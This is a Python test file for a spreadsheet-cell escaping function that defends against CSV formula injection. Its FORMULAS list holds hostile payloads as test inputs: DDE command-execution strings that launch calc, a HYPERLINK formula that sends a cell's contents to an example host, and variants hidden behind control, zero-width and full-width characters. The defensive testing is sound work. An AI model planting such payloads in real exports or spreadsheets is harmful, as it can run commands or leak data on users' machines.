"""A cell is what was said, never a formula."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from annotator.formats.cells import cell, words_of

FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",  # noqa: RUF001 - the full-width sign is the point
    "|calc",
    "'=1+1",
)


@pytest.mark.parametrize("words", FORMULAS)
def test_what_a_spreadsheet_would_compute_is_marked(words: str) -> None:
    assert cell(words) == f"'{words}"


@pytest.mark.parametrize("words", ["", "5 per cent", "He said: = and +", "“5 %”", "a=b"])
def test_other_words_stay_as_they_are(words: str) -> None:
    assert cell(words) == words


@given(st.text())
def test_every_text_comes_back(words: str) -> None:
    assert words_of(cell(words)) == words


@given(st.lists(st.text(), min_size=1))
def test_it_does_through_a_table_too(row: list[str]) -> None:
    out = io.StringIO(newline="")
    csv.writer(out, quoting=csv.QUOTE_ALL).writerow([cell(words) for words in row])
    out.seek(0)

    assert [words_of(one) for one in next(csv.reader(out))] == row
